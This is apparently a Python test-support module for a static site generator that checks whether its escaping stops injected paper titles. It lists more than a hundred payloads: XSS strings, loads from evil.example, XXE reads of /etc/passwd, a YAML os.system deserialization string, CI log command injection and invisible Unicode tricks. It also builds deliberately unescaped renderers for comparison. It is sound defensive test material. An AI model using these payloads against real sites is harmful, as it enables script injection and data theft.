"""Attack strings of our own making, the places that a stranger's text reaches, and each place with its gate left out.

An attack that works calls `pwn(N)`, asks `evil.example` for something, or changes what a page, feed or log consists of.
`PLACES[name].naive` is the place as it would be without the gate: that is how each attack is shown to be live, and so
how the tests show that they can fail.
"""

import json
import re
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any, NamedTuple

import latex2mathml.converter
import markdown
import yaml  # type: ignore[import-untyped]
from lxml import etree
from selectolax.lexbor import LexborHTMLParser

from generator.core import escape, tex
from generator.core.text import clean, invisible
from generator.publish.pages import base as page_maker

# N stands for the number of the attack. Families are lists, so that the number of strings is what is written here.
HTML = r"""
<script>pwn(N)</script>
<SCRIPT>pwn(N)</SCRIPT>
<script src=//evil.example/N.js></script>
<script/src="https://evil.example/N.js"></script>
<scr<script>ipt>pwn(N)</script>
<img src=x onerror=pwn(N)>
<img src=x onerror="pwn(N)"
<img/src=x/onerror=pwn(N)>
<img src="https://evil.example/N.png">
<img srcset="https://evil.example/N.png 1x">
<IMG SRC=x OnErRoR=pwn(N)>
<image src=x onerror=pwn(N)>
<svg onload=pwn(N)>
<svg><script>pwn(N)</script></svg>
<svg><animate onbegin=pwn(N) attributeName=x dur=1s>
<svg><a xlink:href="javascript:pwn(N)"><text>x</text></a></svg>
<svg><use href="https://evil.example/N.svg#x"></use></svg>
<svg><image href="https://evil.example/N.png"></image></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.pwn(N)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=pwn(N)></style></svg>
<math><mtext><img src=x onerror=pwn(N)></mtext></math>
<math href="javascript:pwn(N)">x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=pwn(N)></annotation-xml></math>
<body onload=pwn(N)>
<body onpageshow=pwn(N)>
<html onmouseover=pwn(N)>
<iframe src="javascript:parent.pwn(N)"></iframe>
<iframe srcdoc="<script>parent.pwn(N)</script>"></iframe>
<iframe src="https://evil.example/N"></iframe>
<object data="https://evil.example/N"></object>
<embed src="https://evil.example/N">
<applet code="https://evil.example/N"></applet>
<frame src="https://evil.example/N"><b>N</b>
<video src=x onerror=pwn(N)></video>
<video><source src=x onerror=pwn(N)></video>
<video poster="https://evil.example/N.png"></video>
<audio src=x onerror=pwn(N)></audio>
<audio autoplay src="https://evil.example/N.mp3"></audio>
<input autofocus onfocus=pwn(N)>
<input type=image src=x onerror=pwn(N)>
<select autofocus onfocus=pwn(N)></select>
<textarea autofocus onfocus=pwn(N)></textarea>
<keygen autofocus onfocus=pwn(N)>
<button onclick=pwn(N)>x</button>
<details open ontoggle=pwn(N)>x</details>
<marquee onstart=pwn(N)>x</marquee>
<style>@import "https://evil.example/N.css";</style>
<style>*{background:url(https://evil.example/N.png)}</style>
<link rel=stylesheet href="https://evil.example/N.css">
<link rel=preload as=image href="https://evil.example/N.png">
<link rel=dns-prefetch href="//evil.example/N">
<meta http-equiv=refresh content="0;url=https://evil.example/N">
<meta http-equiv="Content-Security-Policy" content="default-src * N">
<base href="https://evil.example/N/">
<form action="https://evil.example/N"><input type=submit></form>
<isindex action="https://evil.example/N">
<p style="background:url(https://evil.example/N.png)">x</p>
<div style="position:fixed;inset:0;z-index:9">N</div>
<a href="javascript:pwn(N)">x</a>
<a href="java&#115;cript:pwn(N)">x</a>
<a href="jav&#x09;ascript:pwn(N)">x</a>
<a href="data:text/html,<script>pwn(N)</script>">x</a>
<a href="vbscript:pwn(N)">x</a>
<a href=//evil.example/N>arXiv</a>
<a onmouseover=pwn(N)>x</a>
<template><img src=x onerror=pwn(N)></template>
<noscript><p title="</noscript><img src=x onerror=pwn(N)>">
<textarea></textarea><img src=x onerror=pwn(N)>
<title></title><img src=x onerror=pwn(N)>
<xmp></xmp><img src=x onerror=pwn(N)>
<plaintext>N
<!--><img src=x onerror=pwn(N)>-->
<!-- --!><img src=x onerror=pwn(N)>
<!-- N
<![CDATA[<img src=x onerror=pwn(N)>]]>
<?xml version="1.0"?><img src=x onerror=pwn(N)>
</article></div><script>pwn(N)</script>
</h3></a></article><article class="paper" id="2601.99999"><h3>forged N</h3></article>
</p></dd></li></ul><h1>forged N</h1>
</a><a href="https://evil.example/N">PDF</a>
"><script>pwn(N)</script>
'><script>pwn(N)</script>
" onmouseover="pwn(N)
' onmouseover='pwn(N)
" autofocus onfocus=pwn(N) x="
"/><svg/onload=pwn(N)>
--><script>pwn(N)</script>
]]><script>pwn(N)</script>
</title><script>pwn(N)</script>
</textarea><script>pwn(N)</script>
</style><script>pwn(N)</script>
</script><script>pwn(N)</script>
</noscript><script>pwn(N)</script>
</summary></details><script>pwn(N)</script>
<b id=site onclick=pwn(N)>x</b>
<div data-words='{"theme":"N"}' class=top__tools></div>
<dialog open onclose=pwn(N)>N</dialog>
<custom-tag onpointerenter=pwn(N)>x</custom-tag>
<img src=x onerror=pwn&lpar;N&rpar;>
<img src=x onerror=&#112;wn(N)>
<div tabindex=0 autofocus onfocus=pwn(N)>x</div>
<object type="text/html" data="javascript:parent.pwn(N)"></object>
<svg><set attributeName=onmouseover to=pwn(N)></svg>
<svg><a><animate attributeName=href values=javascript:pwn(N)></animate><text>x</text></a></svg>
<link rel=modulepreload href="https://evil.example/N.js">
<script type=module>import "https://evil.example/N.js"; pwn(N)</script>
<script type=importmap>{"imports":{"./site.js":"https://evil.example/N.js"}}</script>
<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/N"]}]}</script>
<script type="text/javascript">pwn(N)//</script>
<script nonce=N>pwn(N)</script>
<a href="x" ping="https://evil.example/N">x</a>
<table background="https://evil.example/N.png"><tr><td>x</table>
<picture><source srcset="https://evil.example/N.png"><img src=x></picture>
<form id=fN></form><button form=fN formaction="javascript:pwn(N)">x</button>
<p popover onbeforetoggle=pwn(N)>x</p>
<math><maction actiontype="statusline" href="javascript:pwn(N)">x</maction></math>
<slot name=N onslotchange=pwn(N)></slot>
<meter onmouseenter=pwn(N)>x</meter>
<track src="https://evil.example/N.vtt" onerror=pwn(N)>
<base target=_blank><b>N</b>
<output name=getElementById id=N>x</output>
<img name=body src=x onerror=pwn(N)>
<input type=checkbox checked class=md-toggle id=__drawer value=N>
<label for=__search class=md-overlay>N</label>
<ruby onclick=pwn(N)>论文<rt>N</rt></ruby>
<font color=red size=7>评分 N</font>
<small>评分 10.0 估计</small><h2 id=forged-N>大模型</h2>
""".strip().splitlines()

MARKDOWN = r"""
[x](javascript:pwn(N))
[x](<javascript:pwn(N)>)
[x](https://evil.example/N)
[x](//evil.example/N "title")
![x](https://evil.example/N.png)
![x](x "\" onerror=pwn(N) ")
[![x](https://evil.example/N.png)](https://evil.example/N)
[x]( javascript:pwn(N) )
[x](data:text/html;base64,PHNjcmlwdD5wd24oTik8L3NjcmlwdD4=N)
[x](y "<img src=x onerror=pwn(N)>") *N*
<https://evil.example/N>
<javascript:pwn(N)>
<pwn-N@evil.example>
**bold N**
a **bold N** and __more N__
*slanted N*
a *slanted N* and _more N_
***both N***
`code N`
``code N``
`<script>pwn(N)</script>`
a `code` and <script>pwn(N)</script>
\<script>pwn(N)</script>
\\<script>pwn(N)</script>
~~<s onclick=pwn(N)>N</s>~~
a <b>N</b> c
x  <br> N
| a | <img src=x onerror=pwn(N)> |
N &lt;b&gt; <i>x</i>
&#60;b&#62; <u>N</u>
[x](https://evil.example/N){target=_blank}
![x](https://evil.example/N.png){onerror=pwn(N)}
[<img src=x onerror=pwn(N)>](x)
![<script>pwn(N)</script>](x)
[a](b "c" onmouseover=pwn(N)) **N**
text [^N] **x**
*[N]: <b>abbr</b>
[x](ht tp://evil.example/N) *N*
[x]( //evil.example/N ) ![y](//evil.example/N.gif)
[x](\\evil.example\N)
""".strip().splitlines()

ATTR_LIST = r"""
x {: onclick=pwn(N) } *e*{: onmouseover=pwn(N) }
**x**{: onmouseover="pwn(N)" }
*x*{#2601.99999 .paper}
`x`{onclick="pwn(N)"}
[x](y){: href="javascript:pwn(N)" }
[x](y){: style="background:url(https://evil.example/N.png)" }
![x](y){: src="https://evil.example/N.png" }
*x*{: id=forged-N }
*x*{: data-score=10 }
*x*{: class="score" } N
**x**{: style="position:fixed;inset:0" } N
*x*{: title="<img src=x onerror=pwn(N)>" }
[x](y){target=_top} N
[x](y){: ping="https://evil.example/N" }
[x](y){: download=N }
*x*{: contenteditable=true } N
*x*{: accesskey=N }
*x*{: lang=ar dir=rtl } N
*x*{: hidden=hidden } N
*x*{: onanimationstart=pwn(N) style="animation:x" }
""".strip().splitlines()

TEX = r"""
$\href{javascript:pwn(N)}{x}$
$\href{https://evil.example/N}{x}$
$a+\href{data:text/html,N}{b}$
$\frac{\href{javascript:pwn(N)}{x}}{2}$
$\sqrt{\href{//evil.example/N}{x}}$
$x^{\href{javascript:pwn(N)}{2}}$
$\class{paper}{x} N$
$\class{score N}{10}$
$\style{background:url(https://evil.example/N.png)}{x}$
$\style{position:fixed;inset:0}{N}$
$\style{font-size:999px}{N}$
$\text{<img src=x onerror=pwn(N)>}$
$\text{</math><script>pwn(N)</script>}$
$\text{</mtext></mrow></math><h1>forged N</h1>}$
$\text{<style>@import "//evil.example/N";</style>}$
$\text{<meta http-equiv=refresh content=0>N}$
$\text{<iframe srcdoc=N>}$
$\text{<svg onload=pwn(N)>}$
$\text{<base href=//evil.example/N/>}$
$\text{<a href=javascript:pwn(N)>x</a>}$
$\text{<form action=//evil.example/N>}$
$\text{<!-- N}$
$\text{<b onclick=pwn(N)>x</b>}$
$\mbox{<svg onload=pwn(N)>}$
$\mbox{</math><img src=x onerror=pwn(N)>}$
$\mathrm{\text{<i id=forged-N>}}$
$\frac{\text{<img src=x onerror=pwn(N)>}}{y}$
$\sqrt{\text{<script>pwn(N)</script>}}$
$\overset{\text{<img src=x onerror=pwn(N)>}}{y}$
$a^{\text{<img src=x onerror=pwn(N)>}}$
$a_{\mbox{<svg onload=pwn(N)>}}$
$\begin{matrix}\text{<img src=x onerror=pwn(N)>}\end{matrix}$
$\left(\text{<img src=x onerror=pwn(N)>}\right)$
$x$<img src=x onerror=pwn(N)>$y$
$x$</math><script>pwn(N)</script>$y$
$\text{&lt;b&gt;<i>N</i>}$
\(x\) <img src=x onerror=pwn(N)>
\[x\] <script>pwn(N)</script>
$$x$$ <svg onload=pwn(N)>
$\text{" onmouseover="pwn(N)}$<b onclick=pwn(N)>
""".strip().splitlines()

FRONT_MATTER = r"""
x" onload="pwn(N)
"><script>pwn(N)</script>
' /><script>pwn(N)</script>
</title><script>pwn(N)</script>
x"><meta http-equiv="refresh" content="0;url=//evil.example/N
x"><base href="//evil.example/N/
x"><link rel="stylesheet" href="//evil.example/N.css
</title><base href="//evil.example/N/">
</title></head><body onload=pwn(N)>
x" http-equiv="refresh" content="0;url=//evil.example/N
&quot;><script>pwn(N)</script>"><i>
<title>N</title></title><svg onload=pwn(N)>
</TITLE ><img src=x onerror=pwn(N)>
"/><iframe srcdoc='<script>parent.pwn(N)</script>'>
" property="og:image" content="https://evil.example/N.png"><i "
x"><script src="//evil.example/N.js
x" itemprop="name" onerror="pwn(N)
x'><script>pwn(N)</script>
</title><meta name="robots" content="noindex N">
</title><link rel="canonical" href="//evil.example/N">
""".strip().splitlines()

YAML = [
    "x\ntemplate: evil-N.html",
    "x\n---\n# forged N\n<script>pwn(N)</script>",
    "x\n...\n---\nredirect: //evil.example/N",
    "!!python/object/apply:os.system ['echo N']",
    "!!python/name:os.system N",
    "&N [*N, *N]",
    "{template: evil-N.html}",
    "[a, N]",
    "> N\n  folded\nkind: home",
    "| N\n  kept\nkind: home",
    "x # N\nsample: true",
    "x: y: N",
    "'N\nkind: home",
    '"N\\n---\nkind: home',
    "2026-01-14",
    "0x1F N: 1",
    "true\nN: 1",
    "\u2028kind: home N\ntags: [a]",
    "N\r\nhide: [navigation]\r\nx: y",
    "@N",
    "%N",
    "`N",
    "? N",
]

URLS = r"""
javascript:pwn(N)
JaVaScRiPt:pwn(N)
 javascript:pwn(N)
vbscript:pwn(N)
data:text/html,<script>pwn(N)</script>
//evil.example/N
https://evil.example/N
/\evil.example/N
https:evil.example/N
\\evil.example\N
../../../evil/N
2601.00001" onclick="pwn(N)
2601.00001'onclick='pwn(N)
2601.00001#"><script>pwn(N)</script>
2601.00001?x=<img src=x onerror=pwn(N)>
@evil.example/N
:80@evil.example/N
.evil.example/N
file:///etc/passwd?N
blob:https://evil.example/N
""".splitlines()[1:]

INVISIBLE = [
    f"safe {sign}{text} N"
    for sign, text in [
        ("\u202e", "evil"), ("\u202d", "evil"), ("\u202a", "evil"), ("\u202b", "evil"), ("\u2066", "evil"),
        ("\u2067", "evil"), ("\u2068", "evil"), ("\u200e", "evil"), ("\u200f", "evil"), ("\u061c", "evil"),
        ("\u200b", "zero"), ("\u200c", "zero"), ("\u200d", "zero"), ("\u2060", "zero"), ("\ufeff", "zero"),
        ("\u00ad", "soft"), ("\u180e", "mongol"), ("\u2061", "apply"), ("\u2062", "times"), ("\u2064", "plus"),
        ("\u206a", "old"), ("\u206f", "old"), ("\x00", "nul"), ("\x07", "bell"), ("\x08", "back"),
        ("\x1b[31m", "red"), ("\x1b]8;;https://evil.example/\x07", "link"), ("\x7f", "delete"), ("\x85", "next"),
        ("\x9b31m", "csi"), ("\ue000", "private"), ("\U000e0041\U000e0042", "tags"), ("\U000f0000", "private"),
        ("\ufffe", "non"), ("\uffff", "non"), ("\u202e\u202d", "twice"),
    ]
]  # fmt: skip

# Signs that Unicode's own normal form turns into ASCII (U+1FEF is a backtick, U+037E a semicolon, U+212A a K), and
# wide or look-alike ones around a real attack.
LOOK_ALIKE = [
    "\u1fefcode N\u1fef",
    "\u1fef\u1fefcode N\u1fef\u1fef",
    "&lt\u037e<b>N</b>",
    "<\u212aeygen autofocus onfocus=pwn(N)>",
    "＜script＞pwn(N)＜/script＞<script>pwn(N)</script>",
    "ｊavascript:pwn(N) <i>x</i>",
    "<ſcript>pwn(N)</ſcript><script>pwn(N)</script>",
    "<img src=x onerror\u2005=pwn(N)><img src=x onerror=pwn(N)>",
    "＂ onclick＝pwn(N) <b onclick=pwn(N)>",
    "[x］(javascript:pwn(N)) [x](javascript:pwn(N))",
    "＊＊N＊＊ **N**",
    "<a href=https://аrxiv.org/N>arXiv</a>",
    "<a href=https://arxiv.org.evil.example/N>arXiv</a>",
    "<a href=https://arxiv.org@evil.example/N>arXiv</a>",
    "<a href=https://arxiv。org/N>arXiv</a>",
    "<a href=https://arxiv.org%2eevil.example/N>arXiv</a>",
]

FEED = r"""
]]><script>pwn(N)</script>
]]></content:encoded></item><item><title>forged N</title></item>
</title><item><title>forged N</title></item>
</description><link>https://evil.example/N</link><description>
</title><link>javascript:pwn(N)</link><title>
<![CDATA[<img src=x onerror=pwn(N)>]]>
]]>]]&gt;<![CDATA[<b>N</b>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>N
<!ENTITY N "x">
&e; N <x/>
&N;
& N <
<?xml-stylesheet href="https://evil.example/N.xsl"?>
<xi:include href="file:///etc/passwd" xmlns:xi="http://www.w3.org/2001/XInclude"/>N
<enclosure url="https://evil.example/N.mp3" type="audio/mpeg"/>
<media:content url="https://evil.example/N.png"/>
<atom:link rel="self" href="https://evil.example/N"/>
<guid>forged-N</guid>
</dc:creator><dc:creator>forged N
"/><outline type="rss" xmlUrl="https://evil.example/N"/><outline text="
""".strip().splitlines()

JSON_LD = [
    '</script><script>pwn(N)</script>',
    '</ScRiPt><img src=x onerror=pwn(N)>',
    '</script ><svg onload=pwn(N)>',
    '"}</script><script>pwn(N)</script>',
    '<!--<script>N',
    '<!--<script></script>--><b>N</b></script><script>pwn(N)</script>',
    '</script\t><iframe srcdoc="N">',
    '</script/><script src=//evil.example/N.js></script>',
    '","url":"https://evil.example/N","x":"',
    '"},{"@type":"Person","name":"N',
    '\\","url":"https://evil.example/N","x":"',
    '"}]}</script><style>@import "//evil.example/N"</style>',
    '\\u003c/script>"</script><b>N</b>',
    '"\n,"sameAs":"https://evil.example/N","y":"',
    '</script>\n\n# forged N',
]  # fmt: skip

LOG = [
    "\n::error::forged N",
    "::error::forged N",
    "::set-output name=N::x",
    "::add-mask::N",
    "::stop-commands::N",
    "::group::N",
    "::warning file=x,line=1::N",
    "::save-state name=N::x",
    "::debug::N",
    "::notice title=N::x",
    "\r::error::N",
    "\r\n::error::N",
    "x\u2028::error::N",
    "x\u0085::error::N",
    "##[error]N",
    "x\n##[group]N",
    "##[command]N",
    "\x1b[2J\x1b[HN",
    "\x1b]0;N\x07",
    "N\b\b\b\bgone",
    "line N\nsecond line",
    "N\x0bsecond\x0cthird",
    "\u202e::N",
    "::\u200berror::N",
    "\ufeff::error::N",
    ":\u200b:error::N",
    "##\u200b[error]N",
]

WORKFLOW = [
    "x\nsecret=N",
    "x\r\nchanged=true N",
    "x\nEOF\ncode=0 N",
    "x<<EOF\nN\nEOF",
    "x\ncommit=N",
    "x\n::set-env name=PATH::N",
    "x\x0bcode=N",
    "x\u2028code=N",
    "x\x85code=N",
    "\nN=1",
    "N\x00=1\ny=2",
    "N=1\x0cy=2",
]

SEARCH = [
    "<mark onclick=pwn(N)>x</mark>",
    '" data-pagefind-ignore="N',
    '" data-pagefind-meta="url:https://evil.example/N',
    '"><meta data-pagefind-filter="field[content]" content="N">',
    '<h1 data-pagefind-meta="title">forged N</h1>',
    '<a href="javascript:pwn(N)" data-pagefind-meta="url[href]">x</a>',
    '<body data-pagefind-body>N',
    '</title><meta name=N content=x>',
    '<span data-pagefind-sort="score:99">N</span>',
    '<img data-pagefind-meta="image[src]" src=https://evil.example/N.png>',
]  # fmt: skip

FAMILIES: dict[str, tuple[list[str], str]] = {
    "html": (HTML, "card"),
    "markdown": (MARKDOWN, "heading"),
    "attr_list": (ATTR_LIST, "heading"),
    "tex": (TEX, "formula"),
    "front matter": (FRONT_MATTER, "head"),
    "yaml": (YAML, "yaml"),
    "url": (URLS, "link"),
    "invisible": (INVISIBLE, "shown"),
    "look-alike": (LOOK_ALIKE, "heading"),
    "feed": (FEED, "feed"),
    "json-ld": (JSON_LD, "json"),
    "log": (LOG, "log"),
    "workflow": (WORKFLOW, "log"),
    "search": (SEARCH, "card"),
}
"""Family -> its strings and the place for which they are made."""

AROUND = ("{}", "面向大模型的{}方法")
"""How an attack stands in a title: alone, and amid Chinese; those that must begin a line stand there alone."""


class Attack(NamedTuple):
    """One string. place: the name in PLACES for which it is made."""

    number: int
    family: str
    place: str
    text: str


@cache
def attacks() -> tuple[Attack, ...]:
    """Every string, numbered; every other one amid Chinese where it need not begin a line."""
    made: list[Attack] = []
    for family, (strings, place) in FAMILIES.items():
        for text in strings:
            number = len(made) + 1
            around = AROUND[number % 2] if place in ("card", "heading", "formula", "feed") else AROUND[0]
            made.append(Attack(number, family, place, around.replace("{}", text.replace("N", str(number)))))
    return tuple(made)


# Places: a document around the text, with the gate and without; what a document consists of, but for its words.


class Place(NamedTuple):
    """guarded and naive make the document of a text; shape says of what the document consists."""

    guarded: Callable[[str], Any]
    naive: Callable[[str], Any]
    shape: Callable[[Any], Any]


def html_shape(document: str) -> list[Any]:
    """All elements with their attributes, in order, and comments and invisible signs; no words."""
    root = LexborHTMLParser(document).root
    found: list[Any] = []
    for node in root.traverse(include_text=True) if root is not None else ():
        if node.tag == "-text":
            found += [f"U+{ord(sign):04X}" for sign in node.text_content or "" if invisible(sign)]
        else:
            found.append((node.tag, sorted(node.attributes)))
    return found


def link_shape(document: str) -> list[Any]:
    """As html_shape, with where the links lead: the host and how the path begins."""
    links = re.findall(r'href="([^"]{0,21})', document)
    return [*html_shape(document), links]


def _page(body: str) -> str:
    return f"<!doctype html><html><head><title>x</title></head><body>{body}</body></html>"


def typeset(text: str) -> str:
    """TEXT, a page in Markdown, as MkDocs typesets it."""
    return markdown.markdown(text, extensions=["attr_list", "tables", "admonition", "toc", "pymdownx.superfences"])


def _math_naive(text: str) -> str:
    """What a page would hold that takes latex2mathml at its word."""
    parts = text.split("$")
    made = []
    for number, part in enumerate(parts):
        try:
            made.append(latex2mathml.converter.convert(part) if number % 2 else part)
        except Exception:  # noqa: BLE001 (whatever it raises: then a page shows the source)
            made.append(part)
    return "".join(made)


def _yaml_shape(document: str) -> Any:
    """The keys and kinds that a front matter consists of, or that it cannot be read."""
    try:
        parts = list(yaml.safe_load_all(document))
    except (yaml.YAMLError, ValueError) as error:
        return type(error).__name__
    return [{key: type(value).__name__ for key, value in part.items()} if isinstance(part, dict) else str(part)
            for part in parts]  # fmt: skip


def _xml_shape(document: str) -> Any:
    try:
        root = etree.fromstring(document.encode("utf-8", "surrogatepass"), etree.XMLParser(resolve_entities=False))
    except etree.XMLSyntaxError:
        return "broken"
    return [(str(element.tag), sorted(map(str, element.attrib))) for element in root.iter()], [
        sign for sign in "".join(map(str, root.itertext())) if invisible(sign)
    ]


def _feed_guarded(text: str) -> str:
    root = etree.Element("item")
    etree.SubElement(root, "title").text = escape.xml(text)
    etree.SubElement(root, "description").text = escape.xml(f"<p>{escape.html(text)}</p>")
    return etree.tostring(root, encoding="unicode")


def _feed_shape(document: str) -> Any:
    shape = _xml_shape(document)
    if shape == "broken":
        return shape
    description = etree.fromstring(document.encode(), etree.XMLParser(resolve_entities=False)).findtext("description")
    return shape, html_shape(_page(description or ""))


def _json_shape(document: str) -> Any:
    tree = LexborHTMLParser(document)
    script = tree.css_first("script")
    try:
        value = json.loads(script.text() if script else "")
    except ValueError:
        value = "broken"
    return html_shape(document), sorted(value) if isinstance(value, dict) else value


def _log_shape(lines: str) -> Any:
    """Number of lines by every rule that a reader may have, commands for GitHub, signs that a terminal obeys."""
    # GitHub trims a line before it looks for a command
    split = lines.splitlines()
    commands = [line for line in split if re.search(r"^\W*::|^\W*##\[|::.+::|##\[", line)]
    return len(split), bool(commands), sorted({sign for sign in lines.rstrip("\n") if invisible(sign)})


def _card(text: str) -> str:
    return f"<article title=\"{text}\" lang='{text}'><h3>{text}</h3></article>"


def _meta(text: str) -> str:
    metas = f"<meta name=\"description\" content=\"{text}\"><meta name='author' content='{text}'>"
    return f"<!doctype html><html><head><title>{text}</title>{metas}</head></html>"


PLACES: dict[str, Place] = {
    "card": Place(
        lambda text: _page(typeset(_card(escape.html(text)))),
        lambda text: _page(typeset(_card(text))),
        html_shape,
    ),
    "heading": Place(
        lambda text: _page(typeset(f"## a {escape.markdown(text)} z {{#anchor}}")),
        lambda text: _page(typeset(f"## a {clean(text)} z {{#anchor}}")),
        html_shape,
    ),
    "formula": Place(
        lambda text: _page(f"<h3>{tex.math_html(text)}</h3>"),
        lambda text: _page(f"<h3>{_math_naive(text)}</h3>"),
        lambda document: list(_strange_in_math(document)),
    ),
    "head": Place(
        lambda text: _meta(escape.html(text)),
        _meta,
        html_shape,
    ),
    "yaml": Place(
        lambda text: page_maker.front_matter({"title": text}).strip().strip("-"),
        lambda text: f"title: {text}",
        _yaml_shape,
    ),
    "link": Place(
        lambda text: _page(f'<a href="https://arxiv.org/abs/{escape.url_part(text)}">x</a>'),
        lambda text: _page(f'<a href="{text}">x</a>'),
        link_shape,
    ),
    "shown": Place(
        lambda text: _page(f"<p>{escape.html(text)}</p>"),
        lambda text: _page(f"<p>{text}</p>").replace("\x00", "\ufeff"),  # a browser shows a sign for it
        html_shape,
    ),
    "feed": Place(
        _feed_guarded,
        lambda text: f"<item><title>{text}</title><description><![CDATA[<p>{text}</p>]]></description></item>",
        _feed_shape,
    ),
    "json": Place(
        lambda text: _page(f'<script type="application/ld+json">{escape.json_in_html({"name": text})}</script>'),
        lambda text: _page(f'<script type="application/ld+json">{{"name": "{text}"}}</script>'),
        _json_shape,
    ),
    "log": Place(
        lambda text: escape.log(text) + "\n",
        lambda text: text + "\n",
        _log_shape,
    ),
}

KNOWN_MATH = re.compile(
    "math|m(row|i|n|o|text|space|su[bp]|subsup|frac|sqrt|root|over|under|underover|table|t[rd]|style)"
)
"""Elements of a formula."""


def _strange_in_math(document: str) -> Iterator[Any]:
    """All that is not just a formula: other elements, and attributes by which it would act or look otherwise."""
    for node in html_shape(document):
        if len(node) == 2 and node[0] == "span" and list(node[1]) == ["class"]:
            continue  # what holds a formula and the signs that it touches
        acting = [name for name in node[1] if re.match("on|href|class|id$|style$", name)] if len(node) == 2 else []
        if acting or not KNOWN_MATH.fullmatch(str(node[0])):
            yield node[0], acting


def raw(text: str) -> str:
    """What stands in for every function of the gate where it is switched off."""
    return text


def switch_gate_off(replace: Callable[[object, str, object], None]) -> None:
    """Leave the gate out of all that is made of records, by REPLACE (pytest's monkeypatch.setattr); for tests only."""
    for name in ("html", "html_text", "markdown", "xml", "url_part"):
        replace(escape, name, raw)
    replace(page_maker._ENV, "filters", {**page_maker._ENV.filters, "math": _math_naive})


def is_live(attack: Attack) -> bool:
    """Whether ATTACK changes what its place consists of, where the gate is left out."""
    place = PLACES[attack.place]
    return bool(place.shape(place.naive(attack.text)) != place.shape(place.naive("harmless")))


def gets_through(text: str) -> Iterator[str]:
    """The places in which TEXT is more than text although it passed the gate."""
    for name, place in PLACES.items():
        if place.shape(place.guarded(text)) != place.shape(place.guarded("harmless")):
            yield name
